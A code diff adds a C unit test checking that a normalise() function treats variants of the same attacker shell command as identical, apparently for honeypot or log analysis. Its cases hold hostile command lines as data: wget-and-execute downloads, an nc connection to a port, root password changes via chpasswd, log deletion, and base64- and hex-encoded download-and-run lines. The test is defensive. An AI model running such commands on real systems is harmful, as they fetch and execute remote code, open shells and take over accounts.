@@ -41,6 +41,46 @@ normalise(struct sv line, struct lines *lines)
 	lines->text[lines->len] = '\0';
 }
 
+/* Two runs of one script, changed as attackers change them, are the same; two scripts are not. */
+static void
+test_what_attackers_do(void **state)
+{
+	/* clang-format off */
+	static const struct {
+		const char *what, *one, *other;
+		bool same;
+	} cases[] = {
+		{ "address and port", "wget http://198.51.100.7:8080/x.sh; sh x.sh", "wget http://203.0.113.9:81/x.sh; sh x.sh", true },
+		{ "address of the other family", "nc 198.51.100.7 4444", "nc 2001:db8::9 4445", true },
+		{ "architecture", "wget http://198.51.100.7/bins/k.mips; ./k.mips", "wget http://198.51.100.7/bins/k.arm7; ./k.arm7", true },
+		{ "random name", "cd /tmp; wget http://198.51.100.7/a -O BUwTrLEj; ./BUwTrLEj", "cd /tmp; wget http://198.51.100.7/a -O z5owII0b; ./z5owII0b", true },
+		{ "random folder", "mkdir /tmp/xK9f2LqZ; cd /tmp/xK9f2LqZ", "mkdir /tmp/Q7bvT1wN; cd /tmp/Q7bvT1wN", true },
+		{ "password", "echo \"root:pfE31FFz7D7q\"|chpasswd", "echo \"root:Zk2mQ81vXa0P\"|chpasswd", true },
+		{ "spacing and quotes", "cd  /tmp ;  rm -rf  'x'", "cd /tmp; rm -rf x", true },
+		{ "base64 of a script with another address", "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2g7IHNoIHguc2g=|base64 -d|sh", "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaDsgc2ggeC5zaA==|base64 -d|sh", true },
+		{ "hex of a line with another address", "echo -e \"\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x37\\x2f\\x78\"", "echo -e \"\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x32\\x30\\x33\\x2e\\x30\\x2e\\x31\\x31\\x33\\x2e\\x39\\x2f\\x78\"", true },
+		{ "base64 of a binary", "echo f0VMRgEBAQAAAAAAAAAAAAIAAwABAAAA|base64 -d > x", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA|base64 -d > x", true },
+		{ "output thrown away", "uname -a > /dev/null 2>&1", "uname -a", true },
+		{ "folder of the program", "/usr/bin/wget http://198.51.100.7/a", "wget http://198.51.100.7/a", true },
+		{ "number in a marker", "echo 1 > /var/tmp/.var03522123", "echo 1 > /var/tmp/.var98211405", true },
+		{ "another brand", "/bin/busybox FBOT", "/bin/busybox OWARI", false },
+		{ "another file", "wget http://198.51.100.7/kinsing.sh", "wget http://198.51.100.7/sora.sh", false },
+		{ "another host name", "wget http://a.example.net/x", "wget http://b.example.org/x", false },
+		{ "another command", "rm -rf /var/log", "cat /var/log", false },
+	};
+	/* clang-format on */
+
+	(void)state;
+	for (size_t i = 0; i < COUNT_OF(cases); i++) {
+		struct lines one, other;
+
+		normalise(sv_from(cases[i].one), &one);
+		normalise(sv_from(cases[i].other), &other);
+		if ((strcmp(one.text, other.text) == 0) != cases[i].same)
+			fail_msg("%s: \"%s\" and \"%s\"", cases[i].what, one.text, other.text);
+	}
+}
+
 static void
 test_lines(void **state)
 {
@@ -322,6 +362,7 @@ int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_what_attackers_do),
 		cmocka_unit_test(test_lines),
 		cmocka_unit_test(test_keys),
 		cmocka_unit_test(test_random),
